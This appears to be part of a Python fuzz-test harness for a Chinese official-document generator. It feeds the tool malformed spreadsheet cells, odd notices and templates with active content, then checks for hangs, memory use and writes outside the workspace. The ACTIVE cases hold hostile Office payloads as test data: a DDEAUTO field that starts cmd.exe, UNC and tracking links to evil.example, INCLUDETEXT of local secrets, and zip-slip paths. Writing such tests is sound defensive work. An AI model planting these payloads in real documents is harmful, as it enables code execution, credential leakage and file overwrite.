CELLS: dict[str, Callable[[str], str]] = {
    "bool-text": _cell_xml("b", "maybe"),
    "shared-index-huge": _cell_xml("s", "99999999"),
    "shared-index-negative": _cell_xml("s", "-1"),
    "shared-index-text": _cell_xml("s", "abc"),
    "number-text": _cell_xml("n", "abc"),
    "number-overflow": _cell_xml("n", "1e400"),
    "number-nan": _cell_xml("n", "NaN"),
    "number-inf": _cell_xml("", "-inf"),
    "iso-date-type": _cell_xml("d", "2018-13-45T99:99:99"),
    "error-value": _cell_xml("e", "#DIV/0!"),
    "inline-without-is": lambda ref: f'<c r="{ref}" t="inlineStr"/>',
    "huge-string": lambda ref: f'<c r="{ref}" t="inlineStr"><is><t>{"字" * 2_000_000}</t></is></c>',
    "style-index-huge": _cell_xml("", "43000", ' s="99999"'),
    "date-serial-huge": _cell_xml("", "1e12", ' s="1"'),
    "date-serial-negative": _cell_xml("", "-5", ' s="1"'),
    "formula-no-value": lambda ref: f'<c r="{ref}"><f>1/0</f></c>',
    "nested-elements": lambda ref: f'<c r="{ref}" t="str"><v><v><v>1</v></v></v></c>',
    "unknown-type": _cell_xml("zz", "1"),
    "surrogate-reference": lambda ref: f'<c r="{ref}" t="inlineStr"><is><t>韩村&#xD800;镇</t></is></c>',
    "replacement-character": lambda ref: f'<c r="{ref}" t="inlineStr"><is><t>韩村&#xFFFD;镇</t></is></c>',
    "text-over-excel-limit": lambda ref: f'<c r="{ref}" t="inlineStr"><is><t>{"字" * 32_768}</t></is></c>',
}


def cell_in(sheet_name: str, ref: str, make: Callable[[str], str]) -> Callable[[bytes], bytes]:
    """Replace (or add) cell `ref` of the sheet named `sheet_name` with hostile XML."""

    def change(data: bytes) -> bytes:
        parts = read_parts(data)
        book = etree.fromstring(parts["xl/workbook.xml"])
        ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
        rid = next(
            s.get("{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id")
            for s in book.iterfind(".//m:sheet", ns)
            if s.get("name") == sheet_name
        )
        rels = etree.fromstring(parts["xl/_rels/workbook.xml.rels"])
        target = next(r.get("Target") for r in rels if r.get("Id") == rid)
        path = target.lstrip("/") if target.startswith("/") else f"xl/{target}"
        xml = parts[path].decode("utf-8")
        row = int(re.sub(r"[A-Z]", "", ref))
        cell = re.search(rf'<c r="{ref}"[^>]*?(/>|>.*?</c>)', xml)
        if cell:
            xml = xml[: cell.start()] + make(ref) + xml[cell.end() :]
        else:
            row_xml = re.search(rf'<row r="{row}"[^>]*>', xml)
            if row_xml:
                xml = xml[: row_xml.end()] + make(ref) + xml[row_xml.end() :]
            else:
                xml = xml.replace("</sheetData>", f'<row r="{row}">{make(ref)}</row></sheetData>', 1)
        parts[path] = xml.encode("utf-8")
        return zip_bytes(parts)

    return change


CELL_PLACES = {
    "issue-date": ("workbook", "发文", "B5"),  # 成文日期
    "unit-name": ("workbook", "单位", "A3"),
    "report-figure": ("workbook", "统计报表", "C2"),
}


def cell_cases() -> list[Case]:
    cases = []
    for place, (target, sheet, ref) in CELL_PLACES.items():
        for label, make in CELLS.items():
            cases.append(Case("cell-types", f"{place}-{label}", with_bytes(target, cell_in(sheet, ref, make))))
    cases += [Case("cell-types", f"form-figure-{label}", _form_cell(make)) for label, make in CELLS.items()]
    return cases


def _form_cell(make: Callable[[str], str]) -> Setup:
    """A returned form whose first figure cell is hostile (D6: the 本期数 column of the first metric's
    row; C4 was the 填报日期 label, so these cases once tested a label, not a figure)."""

    def setup(ws: Path, scratch: Path) -> list[str]:
        data = form_bytes(ws)
        book = etree.fromstring(read_parts(data)["xl/workbook.xml"])
        first = next(s for s in book.iter() if etree.QName(s).localname == "sheet")
        return _form(ws, scratch, cell_in(first.get("name", ""), FORM_FIRST_FIGURE, make)(data), None)

    return setup


# --- family: active content in templates ------------------------------------------------------------

R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def add_to_body(
    xml_fragment: str, rels: tuple[tuple[str, str, str, str], ...] = (), parts: dict[str, bytes] | None = None
) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        package = read_parts(data)
        doc = package["word/document.xml"]
        at = doc.index(b"<w:body>") + len(b"<w:body>")
        package["word/document.xml"] = doc[:at] + xml_fragment.encode() + doc[at:]
        if rels:
            r = package["word/_rels/document.xml.rels"]
            extra = "".join(
                f'<Relationship Id="{rid}" Type="{typ}" Target="{target}"{mode}/>' for rid, typ, target, mode in rels
            )
            package["word/_rels/document.xml.rels"] = r.replace(
                b"</Relationships>", extra.encode() + b"</Relationships>"
            )
        package.update(parts or {})
        return zip_bytes(package)

    return change


def vml_picture(imagedata: str, fill: str = "") -> str:
    """A paragraph with a VML picture (w:pict, as Word 2003 and WPS save one) whose v:imagedata has the
    attributes given: its address only there, in no relationship."""
    return (
        '<w:p><w:r><w:t>单位标志</w:t></w:r><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
        'xmlns:o="urn:schemas-microsoft-com:office:office" id="_x0000_i1025" type="#_x0000_t75" '
        f'style="width:40pt;height:40pt">{fill}<v:imagedata {imagedata}/></v:shape></w:pict></w:r></w:p>'
    )


HYPERLINK = R_NS + "/hyperlink"
EXTERNAL = ' TargetMode="External"'
ACTIVE = {
    "hyperlink-file": add_to_body('<w:p><w:hyperlink r:id="rX1"><w:r><w:t>点此</w:t></w:r></w:hyperlink></w:p>', (("rX1", HYPERLINK, "file:///C:/Windows/system32/calc.exe", EXTERNAL),)),
    "hyperlink-unc": add_to_body('<w:p><w:hyperlink r:id="rX1"><w:r><w:t>点此</w:t></w:r></w:hyperlink></w:p>', (("rX1", HYPERLINK, "\\\\evil.example\\share\\x", EXTERNAL),)),
    "hyperlink-javascript": add_to_body('<w:p><w:hyperlink r:id="rX1"><w:r><w:t>点此</w:t></w:r></w:hyperlink></w:p>', (("rX1", HYPERLINK, "javascript:alert(1)", EXTERNAL),)),
    "includetext-field": add_to_body('<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;C:\\\\secret.docx&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'),
    "includetext-complex": add_to_body('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDETEXT "\\\\\\\\evil\\\\x.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    "includepicture-link": add_to_body('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "http://evil.example/x.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    "ddeauto-field": add_to_body('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'),
    "dde-field": add_to_body('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE excel "x" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    "subdoc": add_to_body('<w:p><w:subDoc r:id="rX2"/></w:p>', (("rX2", R_NS + "/subDocument", "file:///C:/x.docx", EXTERNAL),)),
    "altchunk": add_to_body('<w:altChunk r:id="rX3"/>', (("rX3", R_NS + "/aFChunk", "chunk.html", ""),), {"word/chunk.html": b"<html><script>alert(1)</script></html>"}),
    "vba-project": lambda d: zip_bytes({**read_parts(d), "word/vbaProject.bin": os.urandom(512)}),
    "ole-object": add_to_body('<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rX4" ProgID="Package"/></w:object></w:r></w:p>', (("rX4", R_NS + "/oleObject", "embeddings/x.bin", ""),), {"word/embeddings/x.bin": os.urandom(64)}),
    "external-image": add_to_body("<w:p/>", (("rX5", R_NS + "/image", "http://evil.example/track.png", EXTERNAL),)),
    "external-template": lambda d: _settings_template(d),
    "hyperlink-field-unc": add_to_body('<w:p><w:fldSimple w:instr=" HYPERLINK &quot;\\\\\\\\evil.example\\\\share\\\\x.docx&quot; "><w:r><w:t>点此</w:t></w:r></w:fldSimple></w:p>'),
    "hyperlink-field-file": add_to_body('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> HYPERLINK \\o "说明" "file:///C:/x.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>附件</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    "database-field": add_to_body('<w:p><w:fldSimple w:instr=" DATABASE \\d &quot;\\\\evil\\x.mdb&quot; \\s &quot;select * from t&quot; "><w:r><w:t>表</w:t></w:r></w:fldSimple></w:p>'),
    "rd-field": add_to_body('<w:p><w:fldSimple w:instr=" RD &quot;\\\\evil\\x.docx&quot; "><w:r><w:t>目录</w:t></w:r></w:fldSimple></w:p>'),
    "includetext-over-paragraphs": add_to_body('<w:p><w:r><w:t>上一段</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCL</w:instrText></w:r></w:p><w:p><w:r><w:instrText>UDETEXT "x.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    "tag-in-field-code": add_to_body('<w:p><w:r><w:t>网址</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> HYPERLINK "{{ 活动.名称 }}" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    "glossary-includetext": lambda d: zip_bytes({**read_parts(d), "word/glossary/document.xml": read_parts(d)["word/document.xml"].replace(b"<w:body>", b'<w:body><w:p><w:fldSimple w:instr=" INCLUDETEXT x.docx "/></w:p>', 1)}),
    "activex-renamed": add_to_body("<w:p/>", (("rX6", "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary", "ctrl.bin", ""),), {"word/ctrl.bin": bytes(64)}),
    "mail-merge": lambda d: settings_with(d, '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil\\x.xlsx"/><w:query w:val="SELECT * FROM `Sheet1$`"/></w:mailMerge>'),
    "tracked-deletion": add_to_body('<w:p><w:r><w:t>各乡镇要按时报送</w:t></w:r><w:del w:id="901" w:author="李四" w:date="2026-12-01T00:00:00Z"><w:r><w:delText>，数字可以先估一个</w:delText></w:r></w:del></w:p>'),
    "comment": add_to_body(
        '<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>排查对象</w:t></w:r><w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>',
        (("rX7", R_NS + "/comments", "comments.xml", ""),),
        {"word/comments.xml": f'<w:comments xmlns:w="{W_NS}"><w:comment w:id="0" w:author="王五"><w:p><w:r><w:t>这个范围领导还没定</w:t></w:r></w:p></w:comment></w:comments>'.encode()},
    ),
    "vml-imagedata-src": add_to_body(vml_picture('src="\\\\evil.example\\share\\logo.png"')),
    "vml-imagedata-ohref": add_to_body(vml_picture('o:href="file:///C:/Users/科员/Desktop/印章.png" o:title=""')),
    "vml-imagedata-rhref": add_to_body(vml_picture('r:href="http://evil.example/track.png"')),
    "vml-fill-src": add_to_body(vml_picture('o:title=""', '<v:fill type="frame" src="http://evil.example/bg.png"/>')),
    "drawing-linked-picture": add_to_body(
        '<w:p><w:r><w:t>单位标志</w:t></w:r><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="914400" cy="914400"/><wp:docPr id="91" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:nvPicPr><pic:cNvPr id="91" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rX8"/></pic:blipFill>'
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr>'
        "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>",
        (("rX8", R_NS + "/image", "file:///C:/Users/科员/Desktop/印章.png", EXTERNAL),),
    ),
    "zip-slip-name": lambda d: raw_zip([*entries_of(d), Entry("../../evil.txt", b"x")]),
    "zip-slip-absolute": lambda d: raw_zip([*entries_of(d), Entry("/tmp/evil.txt", b"x")]),
    "zip-slip-backslash": lambda d: raw_zip([*entries_of(d), Entry("..\\..\\evil.txt", b"x")]),
}  # fmt: skip


def _settings_template(data: bytes) -> bytes:
    parts = read_parts(data)
    rels = b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rT1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="\\\\evil.example\\t.dotm" TargetMode="External"/></Relationships>'
    parts["word/_rels/settings.xml.rels"] = rels
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom",
        b'<w:attachedTemplate r:id="rT1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/><w:zoom',
        1,
    )
    return zip_bytes(parts)


def settings_with(data: bytes, xml: str) -> bytes:
    """`xml` among the settings, before w:zoom (their schema's order)."""
    parts = read_parts(data)
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(b"<w:zoom", xml.encode() + b"<w:zoom", 1)
    return zip_bytes(parts)


def active_cases() -> list[Case]:
    return [Case("active-content", label, with_bytes("template", change)) for label, change in ACTIVE.items()]


# --- family: notices (`gongwen import` of what a clerk really receives) ----------------------------

SEED_TITLE = "永清县人民政府办公室关于印发永清县打击传销活动大排查实施方案的通知"
MC_NS = "http://schemas.openxmlformats.org/markup-compatibility/2006"


def _after_title(fragment: str) -> Callable[[bytes], bytes]:
    title = f"<w:p><w:r><w:t>{SEED_TITLE}</w:t></w:r></w:p>".encode()
    return edit_main(lambda xml: xml.replace(title, title + fragment.encode(), 1))


def _with_part(name: str, xml: str) -> Callable[[bytes], bytes]:
    return lambda data: zip_bytes({**read_parts(data), name: xml.encode()})


def _namespaces(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    return lambda data: zip_bytes({name: part.replace(old, new) for name, part in read_parts(data).items()})


def _body_only(fragment: str) -> Callable[[bytes], bytes]:
    def edit(xml: bytes) -> bytes:
        start = xml.index(b"<w:body>") + len(b"<w:body>")
        end = xml.index(b"<w:sectPr") if b"<w:sectPr" in xml else xml.index(b"</w:body>")
        return xml[:start] + fragment.encode() + xml[end:]

    return edit_main(edit)


def _sparse(size: int) -> Callable[[Path, Path], None]:
    def make(path: Path, scratch: Path) -> None:
        with path.open("wb") as fh:
            fh.write(seed_notice())
            fh.truncate(size)

    return make


W_P = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
TEXT_BOX = (
    f'<w:p><w:r><mc:AlternateContent xmlns:mc="{MC_NS}"><mc:Choice Requires="wps"><w:drawing><w:txbxContent>'
    f"{W_P.format('文本框')}</w:txbxContent></w:drawing></mc:Choice><mc:Fallback><w:pict><w:txbxContent>"
    f"{W_P.format('文本框')}</w:txbxContent></w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p>"
)
PAGE_HTML = (
    f"<html><body><p align=center>{SEED_TITLE}</p><p>各乡镇（区、办）：</p><p>请认真贯彻落实。</p></body></html>"
)
# A notice part of whose text is an embedded HTML chunk (as OA systems export them).
ALT_CHUNK_NOTICE = add_to_body(
    '<w:altChunk r:id="rX3"/>',
    (("rX3", R_NS + "/aFChunk", "chunk.html", ""),),
    {"word/chunk.html": "<html><body><p>各乡镇（区、办）：请认真贯彻落实。</p></body></html>".encode()},
)
NOTICES: dict[str, Callable[[bytes], bytes]] = {
    "ole-noise-as-docx": lambda d: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(range(256)) * 16,
    "html-page-as-docx": lambda d: PAGE_HTML.encode("gb2312"),
    "mht-archive-as-docx": lambda d: ("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\n"
                                      "Content-Type: text/html; charset=\"utf-8\"\r\n\r\n" + PAGE_HTML + "\r\n--b--\r\n").encode(),
    "pdf-scan-as-docx": lambda d: b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/XObject/Subtype/Image>>stream\n" + bytes(4096),
    "tracked-changes": _after_title('<w:p><w:moveFrom w:id="1"><w:r><w:t>旧处</w:t></w:r></w:moveFrom></w:p><w:p><w:del w:id="2"><w:r><w:delText>删</w:delText></w:r></w:del><w:ins w:id="3"><w:r><w:t>增</w:t></w:r></w:ins></w:p>'),
    "comments": _after_title('<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>有批注</w:t></w:r><w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>'),
    "fields-toc-page": _after_title('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> TOC \\o "1-3" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>目录</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'),
    "text-box": _after_title(TEXT_BOX),
    "nested-tables": _after_title(f"<w:tbl><w:tr><w:tc><w:tbl><w:tr><w:tc>{W_P.format('内')}</w:tc></w:tr></w:tbl>{TEXT_BOX}</w:tc></w:tr></w:tbl>"),
    "tables-nested-200-deep": _after_title("<w:tbl><w:tr><w:tc>" * 200 + W_P.format("深") + "</w:tc></w:tr></w:tbl>" * 200),
    "footnote": _after_title('<w:p><w:r><w:t>有脚注</w:t></w:r><w:r><w:footnoteReference w:id="1"/></w:r></w:p>'),
    "no-title": edit_main(lambda xml: xml.replace(W_P.format(SEED_TITLE).encode(), b"", 1)),
    "only-an-attachment-table": _body_only(f"{W_P.format('附件')}<w:tbl><w:tr><w:tc>{W_P.format('单位')}</w:tc><w:tc>{W_P.format('联系人')}</w:tc></w:tr></w:tbl>"),
    "empty-body": _body_only(""),
    "numbered-headings-list-only": _body_only(W_P.format(SEED_TITLE) + '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>目标任务</w:t></w:r></w:p>' * 3),
    "gbk-declared": edit_main(lambda xml: re.sub(rb"encoding=['\"]UTF-8['\"]", b"encoding='GBK'", xml, count=1).decode().encode("gbk")),
    "gbk-undeclared": edit_main(lambda xml: re.sub(rb"^<\?xml[^>]*\?>", b"", xml).decode().encode("gbk")),
    "wps-custom-xml": edit_main(lambda xml: xml.replace(b"<w:body>", b'<w:body><w:customXml w:element="x"><w:customXml w:element="y">' + W_P.format("自定义").encode() + b"</w:customXml></w:customXml>", 1)),
    "strict-open-xml": _namespaces(b"http://schemas.openxmlformats.org/wordprocessingml/2006/main", b"http://purl.oclc.org/ooxml/wordprocessingml/main"),
    "comments-part-with-doctype": _with_part("word/comments.xml", LAUGHS.decode()),
    "alt-chunk": ALT_CHUNK_NOTICE,
    "paragraph-of-a-million-characters": _after_title(W_P.format("字" * 1_000_000)),
    "20001-paragraphs": _after_title(W_P.format("段") * 20_001),
}  # fmt: skip


def notice_cases() -> list[Case]:
    cases = [Case("notices", label, with_bytes("import", change)) for label, change in NOTICES.items()]
    cases.append(Case("notices", "200MB-docx", with_file("import", _sparse(200 * 2**20))))
    return cases


def all_cases() -> list[Case]:
    return [
        *zip_method_cases(), *zip_size_cases(), *damaged_cases(), *huge_cases(), *file_type_cases(),
        *sandbox_cases(), *cell_cases(), *active_cases(), *notice_cases(),
    ]  # fmt: skip


# --- the run --------------------------------------------------------------------------------------


@dataclass
class Outcome:
    case: Case
    exit_code: int | None  # None: killed at TIME_BOUND
    seconds: float
    peak_bytes: int
    output: str
    problems: list[str] = field(default_factory=list)


_CJK = re.compile(r"[\u4e00-\u9fff]")


def prepare_master(root: Path) -> Path:
    """The example workspace with a form issued (so that its key exists), copied for each case."""
    master = root / "master"
    if not master.exists():
        subprocess.run(
            [sys.executable, "-m", "generator.cli", "init", str(master)], cwd=REPO, check=True, capture_output=True
        )
        subprocess.run(
            [sys.executable, "-m", "generator.cli", "-C", str(master), "forms", "--period", FORM_PERIOD, "--unit", FORM_UNIT],
            cwd=REPO, check=True, capture_output=True,
        )  # fmt: skip
    return master


def _tree(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")} if folder.exists() else set()


# What Python writes of an object that is no text ("<generator object do_batch at 0x7f…>", escaped).
PYTHON_REPR = re.compile(rb"(?:<|&lt;)[\w.]+ object (?:\w+ )?at 0x[0-9a-f]+")


def opens(path: Path) -> str | None:
    """Why a written .docx/.xlsx would not open (None: it opens): a whole zip whose XML parts parse."""
    try:
        with zipfile.ZipFile(path) as zf:
            if zf.testzip() is not None:
                return "CRC"
            for name in zf.namelist():
                if name.endswith((".xml", ".rels")):
                    root = etree.fromstring(zf.read(name), etree.XMLParser(resolve_entities=False, no_network=True))
                    if name == "word/document.xml" and etree.QName(root).localname != "document":
                        return "word/document.xml is no w:document"
            if path.suffix == ".docx" and PYTHON_REPR.search(zf.read("word/document.xml")):
                return "a Python object's repr in word/document.xml"
            main = "word/document.xml" if path.suffix == ".docx" else "xl/workbook.xml"
            needed = [main, "[Content_Types].xml", "_rels/.rels"]
            if path.suffix == ".docx":
                needed += ["word/styles.xml", "word/settings.xml"]
            missing = [n for n in needed if n not in zf.namelist()]
            return f"missing {missing}" if missing else None
    except (zipfile.BadZipFile, etree.XMLSyntaxError, OSError, KeyError, ValueError) as exc:
        return f"{type(exc).__name__}: {exc}"


def run_case(case: Case, root: Path) -> Outcome:
    """One case in a fresh workspace under `root`, with everything it promises checked."""
    master = prepare_master(root)
    here = root / "cases" / re.sub(r"[^\w.-]+", "_", case.id)
    if here.exists():
        shutil.rmtree(here)
    ws, scratch, tmp = here / "ws", here / "scratch", here / "tmp"
    shutil.copytree(master, ws, symlinks=True)
    scratch.mkdir()
    tmp.mkdir()
    args = case.setup(ws, scratch)
    before_here = _outside(here)
    env = dict(os.environ, TMPDIR=str(tmp), TEMP=str(tmp), TMP=str(tmp), LANG="C.UTF-8")
    started = time.monotonic()
    proc = subprocess.Popen(
        [sys.executable, "-c", MEASURE, sys.executable, "-m", "generator.cli", "-C", str(ws), *args],
        cwd=scratch, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True,
    )  # fmt: skip
    try:
        out, err = proc.communicate(timeout=TIME_BOUND)
        exit_code: int | None = proc.returncode
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, 9)
        out, err = proc.communicate()
        exit_code = None
    _kill_group(proc.pid)  # anything it left behind (the orphan test is elsewhere)
    seconds = time.monotonic() - started
    output = out.decode("utf-8", "replace")
    peak = int(err.rsplit(b"\n", 1)[-1]) if exit_code is not None and err.rsplit(b"\n", 1)[-1].isdigit() else 0
    outcome = Outcome(case, exit_code, seconds, peak, output)
    _judge(outcome, ws, here, tmp, before_here)
    (here / "result.txt").write_text(f"exit {exit_code}\n{output}\n{outcome.problems}\n", encoding="utf-8")
    return outcome


# Runs the command and prints its peak RSS (with its children's) last on stderr. A small process
# of its own: the peak of a child counts the memory of the process it was forked from.
MEASURE = """
import resource, subprocess, sys
code = subprocess.call(sys.argv[1:], stderr=subprocess.STDOUT)
sys.stderr.write("\\n%d" % (resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024))
sys.exit(code)
"""


def _kill_group(pid: int) -> None:
    with contextlib.suppress(ProcessLookupError, PermissionError):
        os.killpg(pid, 9)


def _outside(here: Path) -> set[str]:
    """What there is in a case's folder outside its workspace and its temporary folder."""
    return {p for p in _tree(here) if not p.startswith(("ws/", "tmp/")) and p not in ("ws", "tmp")}


def _judge(o: Outcome, ws: Path, here: Path, tmp: Path, before_here: set[str]) -> None:
    left = [p.name for p in tmp.iterdir()] if tmp.exists() else []
    if left:
        o.problems.append(f"left in the temporary folder: {left[:3]}")
    if o.exit_code is None:
        o.problems.append(f"hang: killed after {TIME_BOUND:g} s")
    elif o.exit_code not in (0, 1, 2):
        o.problems.append(f"exit {o.exit_code}")
    if o.exit_code not in (0, None) and not _CJK.search(o.output):
        o.problems.append("no Chinese message")
    if "Traceback" in o.output or "程序内部出错" in o.output:
        o.problems.append("internal error")
    if o.peak_bytes > MEMORY_BOUND:
        o.problems.append(f"peak memory {o.peak_bytes / 2**20:.0f} MB")
    outside = _outside(here) - before_here
    if outside:
        o.problems.append(f"written outside the workspace: {sorted(outside)[:3]}")
    escaped = [p for p in here.parent.parent.iterdir() if p.name not in ("master", "cases")]
    if escaped:
        o.problems.append(f"written beside the workspaces: {escaped[:3]}")
    for path in (ws / "output").rglob("*"):
        if path.suffix in (".docx", ".xlsx") and path.is_file() and ".gongwen-staging" not in path.parts:
            why = opens(path)
            if why:
                o.problems.append(f"unopenable {path.name}: {why}")


def sample(cases: list[Case], per_family: int) -> list[Case]:
    """`per_family` cases of each family, spread over it: the run every CI run makes."""
    by_family: dict[str, list[Case]] = {}
    for case in cases:
        by_family.setdefault(case.family, []).append(case)
    return [
        family[i * len(family) // per_family]
        for family in by_family.values()
        for i in range(min(per_family, len(family)))
    ]
